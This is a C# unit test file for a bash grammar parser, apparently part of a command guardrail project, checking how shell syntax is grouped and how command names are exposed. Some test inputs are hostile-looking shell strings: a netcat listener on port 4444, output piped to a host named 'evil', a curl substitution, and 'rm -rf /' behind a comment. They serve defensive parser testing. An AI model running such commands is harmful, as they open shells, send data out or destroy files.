using Guardrails.Shell.Syntax;
using static Guardrails.Tests.Shell.Syntax.SyntaxTestHelpers;

namespace Guardrails.Tests.Shell.Syntax;

public class CommandGrammarTests
{
    /// <summary>Source and its normalized rendering, which exposes how it was grouped.</summary>
    public static TheoryData<string, string> Normalized => new()
    {
        { "a;b", "a; b" },
        { "a\nb\n\nc", "a; b; c" },
        { "a & b", "a & b" },
        { "a && b || c", "a && b || c" },
        { "a &&\n b", "a && b" },
        { "a | b | c", "a | b | c" },
        { "a |& b", "a |& b" },
        { "a |\n b", "a | b" },
        { "! a | b", "! a | b" },
        { "time a", "time a" },
        { "time -p a", "time a" },
        { "! time a", "! time a" },
        { "(a; b)", "( a; b )" },
        { "( (a) )", "( ( a ) )" },
        { "((a) | b)", "( ( a ) | b )" },
        { "{ a; b; }", "{ a; b; }" },
        { "{ a\n}", "{ a; }" },
        { "if a; then b; fi", "if a; then b; fi" },
        { "if a; then b; elif c; then d; else e; fi", "if a; then b; elif c; then d; else e; fi" },
        { "if a\nthen\nb\nfi", "if a; then b; fi" },
        { "while a; do b; done", "while a; do b; done" },
        { "until a; do b; done", "until a; do b; done" },
        { "for x in 1 2 3; do echo $x; done", "for x in 1 2 3; do echo $x; done" },
        { "for x; do echo; done", "for x; do echo; done" },
        { "for x do echo; done", "for x; do echo; done" },
        { "for x in; do echo; done", "for x in; do echo; done" },
        { "for x in a b\ndo\necho\ndone", "for x in a b; do echo; done" },
        { "for x in a; { echo; }", "for x in a; do echo; done" },
        { "for ((i=0; i<3; i++)); do echo; done", "for ((i=0; i<3; i++)); do echo; done" },
        { "select x in a b; do break; done", "select x in a b; do break; done" },
        { "case $x in a) b;; c|d) e;; esac", "case $x in a) b;; c|d) e;; esac" },
        { "case x in (a) b;; esac", "case x in a) b;; esac" },
        { "case x in a) b;& c) d;;& esac", "case x in a) b;; c) d;; esac" },
        { "case x in a) b; esac", "case x in a) b;; esac" },
        { "case x in\n a)\n b\n ;;\nesac", "case x in a) b;; esac" },
        { "case x in esac", "case x in esac" },
        { "f() { a; }", "f() { a; }" },
        { "f () { a; }", "f() { a; }" },
        { "function f { a; }", "f() { a; }" },
        { "function f() { a; }", "f() { a; }" },
        { "f() ( a )", "f() ( a )" },
        { "f()\n{ a; }", "f() { a; }" },
        { "f() { a; } > log", "f() { a; } >log" },
        { "[[ -f x ]]", "[[ -f x ]]" },
        { "((x++))", "((x++))" },
        { "coproc a b", "coproc a b" },
        { "coproc NAME { a; }", "coproc NAME { a; }" },
        { "coproc { a; }", "coproc { a; }" },
        { "{ a; } > out 2>&1", "{ a; } >out 2>&1" },
        { "(a) < in", "( a ) <in" },
        { "while read l; do echo; done < f", "while read l; do echo; done <f" },
    };

    [Theory]
    [MemberData(nameof(Normalized))]
    public void Parse_ValidGrammar_GroupsAsBashDoes(string source, string expected)
    {
        Print(ParseComplete(source)).Should().Be(expected);
    }

    public static TheoryData<string, Type> CompoundKinds => new()
    {
        { "(a)", typeof(Subshell) },
        { "{ a; }", typeof(BraceGroup) },
        { "f() { a; }", typeof(FunctionDefinition) },
        { "if a; then b; fi", typeof(IfCommand) },
        { "while a; do b; done", typeof(WhileCommand) },
        { "for a in b; do c; done", typeof(ForCommand) },
        { "for ((;;)); do c; done", typeof(ArithmeticForCommand) },
        { "select a in b; do c; done", typeof(SelectCommand) },
        { "case a in b) c;; esac", typeof(CaseCommand) },
        { "[[ a ]]", typeof(ConditionalCommand) },
        { "((a))", typeof(ArithmeticCommand) },
        { "coproc a", typeof(CoprocCommand) },
        { "a b", typeof(SimpleCommand) },
    };

    [Theory]
    [MemberData(nameof(CompoundKinds))]
    public void Parse_CommandForm_ProducesMatchingNode(string source, Type expected)
    {
        SingleCommand(ParseComplete(source)).Should().BeOfType(expected);
    }

    [Fact]
    public void Parse_ListItems_RecordBackgroundAndSeparators()
    {
        var script = ParseComplete("a & b; c &");

        script.Body.Items.Select(static i => i.Background).Should().Equal(true, false, true);
    }

    [Fact]
    public void Parse_AndOrList_RecordsOperatorsInOrder()
    {
        var andOr = ParseComplete("a && b || c && d").Body.Items[0].Command;

        andOr.Rest.Select(static r => r.Op).Should().Equal(AndOrOperator.And, AndOrOperator.Or, AndOrOperator.And);
    }

    [Fact]
    public void Parse_Pipeline_RecordsStderrPipes()
    {
        var pipeline = ParseComplete("a | b |& c").Body.Items[0].Command.First;

        pipeline.Commands.Should().HaveCount(3);
        pipeline.PipeStderr.Should().Equal(false, true);
    }

    [Fact]
    public void Parse_NegatedTimedPipeline_SetsFlags()
    {
        var pipeline = ParseComplete("time ! a").Body.Items[0].Command.First;

        pipeline.Negated.Should().BeTrue();
        pipeline.Timed.Should().BeTrue();
    }

    [Fact]
    public void Parse_BareBang_IsEmptyNegatedPipeline()
    {
        var pipeline = ParseComplete("!").Body.Items[0].Command.First;

        pipeline.Negated.Should().BeTrue();
        pipeline.Commands.Should().BeEmpty();
    }

    [Theory]
    [InlineData("echo if then else fi do done while until for in case esac select function time { } [[ ]] !")]
    [InlineData("echo if; echo then")]
    public void Parse_ReservedWordsAsArguments_StayWords(string source)
    {
        var commands = SimpleCommands(ParseComplete(source));

        commands.Should().AllSatisfy(static c => WordTexts(c)[0].Should().Be("echo"));
    }

    [Fact]
    public void Parse_ReservedWordsAsArguments_AreAllKept()
    {
        WordTexts(SingleSimple("echo if then fi done")).Should().Equal("echo", "if", "then", "fi", "done");
    }

    [Theory]
    [InlineData("\"if\" a", "if")]
    [InlineData("\\if a", "if")]
    [InlineData("i''f a", "if")]
    public void Parse_QuotedReservedWord_IsACommandName(string source, string name)
    {
        CommandNames(ParseComplete(source)).Should().Equal(name);
    }

    [Fact]
    public void Parse_ReservedWordAfterAssignment_IsACommandName()
    {
        var command = SingleSimple("x=1 if");

        command.Assignments.Should().ContainSingle();
        WordTexts(command).Should().Equal("if");
    }

    [Fact]
    public void Parse_BraceNotFollowedByBlank_IsAWord()
    {
        WordTexts(SingleSimple("{a,b}x")).Should().ContainSingle();
        WordTexts(SingleSimple("echo {}")).Should().Equal("echo", "{}");
    }

    [Theory]
    [InlineData("echo a # comment; rm -rf /", new[] { "echo" })]
    [InlineData("# only a comment", new string[0])]
    [InlineData("echo a#b", new[] { "echo" })]
    [InlineData("echo a;#c\nls", new[] { "echo", "ls" })]
    [InlineData("echo \\#x", new[] { "echo" })]
    [InlineData("echo '#x' \"#y\"", new[] { "echo" })]
    public void Parse_Comments_OnlyStartAtWordStart(string source, string[] names)
    {
        CommandNames(ParseComplete(source)).Should().Equal(names);
    }

    [Fact]
    public void Parse_HashInsideWord_IsKeptInTheWord()
    {
        WordTexts(SingleSimple("echo a#b '#c' \\#d")).Should().Equal("echo", "a#b", "#c", "#d");
    }

    [Fact]
    public void Parse_Assignments_OnlyBeforeTheCommandName()
    {
        var command = SingleSimple("a=1 b+=2 c[3]=4 cmd d=5");

        command.Assignments.Select(static a => (a.Name, a.Append)).Should().Equal(("a", false), ("b", true), ("c[3]", false));
        WordTexts(command).Should().Equal("cmd", "d=5");
    }

    [Fact]
    public void Parse_AssignmentOnlyCommand_HasNoWords()
    {
        var command = SingleSimple("a=1 b=");

        command.Words.Should().BeEmpty();
        command.Assignments[1].Value!.Parts.Should().BeEmpty();
    }

    [Fact]
    public void Parse_ArrayAssignment_ParsesElements()
    {
        var assignment = SingleSimple("a=(x \"y z\" [k]=v\n $w)").Assignments.Should().ContainSingle().Subject;

        assignment.Value.Should().BeNull();
        assignment.ArrayValue.Should().HaveCount(4);
        assignment.ArrayValue![2].TryGetStaticText(out var keyed).Should().BeTrue();
        keyed.Should().Be("[k]=v");
    }

    [Fact]
    public void Parse_IndexWithBlanksInCommandPosition_IsOneAssignment()
    {
        var assignment = SingleSimple("a[1 + 2]=x").Assignments.Should().ContainSingle().Subject;

        assignment.Name.Should().Be("a[1 + 2]");
    }

    [Fact]
    public void Parse_IndexWithSubstitution_ExposesTheSubstitution()
    {
        var assignment = SingleSimple("a[$(id)]=1").Assignments.Should().ContainSingle().Subject;

        assignment.Expansions.Should().ContainSingle().Which.Should().BeOfType<CommandSubstitutionPart>();
        CommandNames(assignment).Should().Equal("id");
    }

    [Theory]
    [InlineData("declare -a arr=(x y)", "arr=(x y)")]
    [InlineData("local a=(1)", "a=(1)")]
    [InlineData("export PATH=/bin", "PATH=/bin")]
    public void Parse_DeclarationBuiltinArguments_StayWords(string source, string argument)
    {
        var command = SingleSimple(source);

        command.Assignments.Should().BeEmpty();
        command.Words[^1].TryGetStaticText(out var text).Should().BeTrue();
        text.Should().Be(argument);
    }

    [Fact]
    public void Parse_FunctionDefinition_KeepsNameAndBody()
    {
        var function = SingleCommand(ParseComplete("function deploy { scp a b; }")).Should().BeOfType<FunctionDefinition>().Subject;

        function.Name.Should().Be("deploy");
        CommandNames(function.Body).Should().Equal("scp");
    }

    [Fact]
    public void Parse_CoprocWithName_SetsName()
    {
        var coproc = SingleCommand(ParseComplete("coproc worker { nc -l 4444; }")).Should().BeOfType<CoprocCommand>().Subject;

        coproc.Name.Should().Be("worker");
        CommandNames(coproc.Body).Should().Equal("nc");
    }

    [Fact]
    public void Parse_CoprocSimpleCommand_HasNoName()
    {
        var coproc = SingleCommand(ParseComplete("coproc nc -l 4444")).Should().BeOfType<CoprocCommand>().Subject;

        coproc.Name.Should().BeNull();
        WordTexts(coproc.Body.Should().BeOfType<SimpleCommand>().Subject).Should().Equal("nc", "-l", "4444");
    }

    [Fact]
    public void Parse_IfCommand_ExposesBranchesAndElse()
    {
        var command = SingleCommand(ParseComplete("if a; then b; elif c; then d; else e; fi")).Should().BeOfType<IfCommand>().Subject;

        command.Branches.Should().HaveCount(2);
        CommandNames(command.Branches[1].Condition).Should().Equal("c");
        CommandNames(command.Else!).Should().Equal("e");
    }

    [Fact]
    public void Parse_ForCommand_ExposesVariableAndItems()
    {
        var command = SingleCommand(ParseComplete("for host in a b c; do ssh $host; done")).Should().BeOfType<ForCommand>().Subject;

        command.Variable.Should().Be("host");
        command.Items!.Select(static w => w.TryGetStaticText(out var t) ? t : null).Should().Equal("a", "b", "c");
    }

    [Fact]
    public void Parse_ForWithoutIn_HasNullItems()
    {
        SingleCommand(ParseComplete("for x; do :; done")).Should().BeOfType<ForCommand>().Which.Items.Should().BeNull();
    }

    [Fact]
    public void Parse_ArithmeticFor_SplitsExpressions()
    {
        var command = SingleCommand(ParseComplete("for (( i = 0 ; i < $(nproc) ; i++ )); do :; done")).Should().BeOfType<ArithmeticForCommand>().Subject;

        command.Init.Should().Be(" i = 0 ");
        command.Test.Should().Be(" i < $(nproc) ");
        command.Update.Should().Be(" i++ ");
        command.Expansions.Should().ContainSingle().Which.Should().BeOfType<CommandSubstitutionPart>();
    }

    [Fact]
    public void Parse_CaseCommand_ExposesSubjectPatternsAndBodies()
    {
        var command = SingleCommand(ParseComplete("case $1 in start|run) go;; *) help;; esac")).Should().BeOfType<CaseCommand>().Subject;

        command.Subject.ToDisplayText().Should().Be("$1");
        command.Items.Should().HaveCount(2);
        command.Items[0].Patterns.Select(static p => p.ToDisplayText()).Should().Equal("start", "run");
        command.Items[1].Patterns.Should().ContainSingle().Which.Parts.Should().ContainSingle().Which.Should().BeOfType<GlobPart>();
        CommandNames(command.Items[1].Body).Should().Equal("help");
    }

    [Fact]
    public void Parse_ConditionalCommand_KeepsOperatorsAsWords()
    {
        var command = SingleCommand(ParseComplete("[[ a < b && ( $x == y* || ! -e f ) ]]")).Should().BeOfType<ConditionalCommand>().Subject;

        command.Words.Select(static w => w.ToDisplayText()).Should().Equal("a", "<", "b", "&&", "(", "$x", "==", "y*", "||", "!", "-e", "f", ")");
        command.Redirections.Should().BeEmpty();
    }

    [Theory]
    [InlineData("[[ a < b ]]", "<")]
    [InlineData("[[ a > b ]]", ">")]
    public void Parse_AngleBracketInConditional_IsAnOperatorNotARedirection(string source, string op)
    {
        var command = SingleCommand(ParseComplete(source)).Should().BeOfType<ConditionalCommand>().Subject;

        command.Redirections.Should().BeEmpty();
        command.Words.Select(static w => w.ToDisplayText()).Should().Equal("a", op, "b");
    }

    [Fact]
    public void Parse_RedirectionAfterConditional_BelongsToIt()
    {
        var command = SingleCommand(ParseComplete("[[ a < b ]] > out")).Should().BeOfType<ConditionalCommand>().Subject;

        command.Redirections.Should().ContainSingle().Which.Op.Should().Be(RedirectionOperator.Output);
    }

    [Fact]
    public void Parse_ConditionalRegex_KeepsParenthesesAndBarsInTheWord()
    {
        var command = SingleCommand(ParseComplete("[[ $x =~ ^(a|b c)+$ ]]")).Should().BeOfType<ConditionalCommand>().Subject;

        command.Words.Select(static w => w.ToDisplayText()).Should().Equal("$x", "=~", "^(a|b c)+$");
    }

    [Fact]
    public void Parse_ConditionalAcrossLines_IsOneCommand()
    {
        SingleCommand(ParseComplete("[[ a &&\n b ]]")).Should().BeOfType<ConditionalCommand>().Which.Words.Should().HaveCount(3);
    }

    [Fact]
    public void Parse_ArithmeticCommand_KeepsRawExpression()
    {
        SingleCommand(ParseComplete("(( x = (1 + 2) * 3 ))")).Should().BeOfType<ArithmeticCommand>().Which.Expression.Should().Be(" x = (1 + 2) * 3 ");
    }

    [Fact]
    public void Parse_DoubleParenThatDoesNotCloseAsArithmetic_IsNestedSubshells()
    {
        var subshell = SingleCommand(ParseComplete("((echo a) | nc evil 80)")).Should().BeOfType<Subshell>().Subject;

        CommandNames(subshell).Should().Equal("echo", "nc");
    }

    [Fact]
    public void Parse_ArithmeticCommandWithSubstitution_ExposesIt()
    {
        var command = SingleCommand(ParseComplete("(( $(curl -s x) ))")).Should().BeOfType<ArithmeticCommand>().Subject;

        CommandNames(command).Should().Equal("curl");
    }
}
